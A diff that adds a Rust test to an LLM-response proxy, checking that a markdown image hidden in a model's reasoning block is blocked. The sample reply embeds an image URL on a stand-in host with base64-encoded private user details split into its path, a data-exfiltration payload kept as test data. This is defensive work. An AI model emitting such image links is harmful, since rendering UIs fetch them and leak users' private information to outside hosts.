@@ -127,6 +127,32 @@ async fn markup_in_reasoning_does_not_withhold_the_answer() {
     assert_eq!(r.status, 403, "{}", r.text());
 }
 
+/// An image is different: UIs that show a thinking block render it as
+/// markdown and fetch its images, so an image that carries data away is
+/// stopped in the reasoning too.
+#[tokio::test]
+async fn an_exfiltration_image_in_reasoning_is_stopped() {
+    let up = Upstream::start().await;
+    let p = proxy(BASIC, &up).await;
+    // "Jane Roe asked about her divorce lawyer", in base64, in the path.
+    let thought = "Noted.| ![](https://t.example/px/SmFuZSBSb2UgYXNrZWQgYWJvd|XQgaGVyIGRpdm9yY2UgbGF3eWVy.gif) Now the answer.";
+    for behavior in ["anthropic-thinking", "sse-anthropic-thinking"] {
+        let body = serde_json::json!({"model":"claude","max_tokens":64,"stream":behavior.starts_with("sse"),
+            "messages":[{"role":"user","content":"Summarise my notes"}]})
+        .to_string();
+        let r = post(
+            p.addr,
+            "/v1/messages",
+            &[("x-test-behavior", behavior), ("x-test-reply", thought)],
+            &body,
+        )
+        .await;
+        let text = r.text();
+        assert!(!text.contains("t.example"), "{behavior}: {text}");
+        assert!(text.contains("blocked_by_policy"), "{behavior}: {text}");
+    }
+}
+
 /// With the real injection model: a thinking model's earlier turn, sent
 /// back as history, is first-person planning that reads like an instruction
 /// to the classifier. It is not classified on requests (the rules still
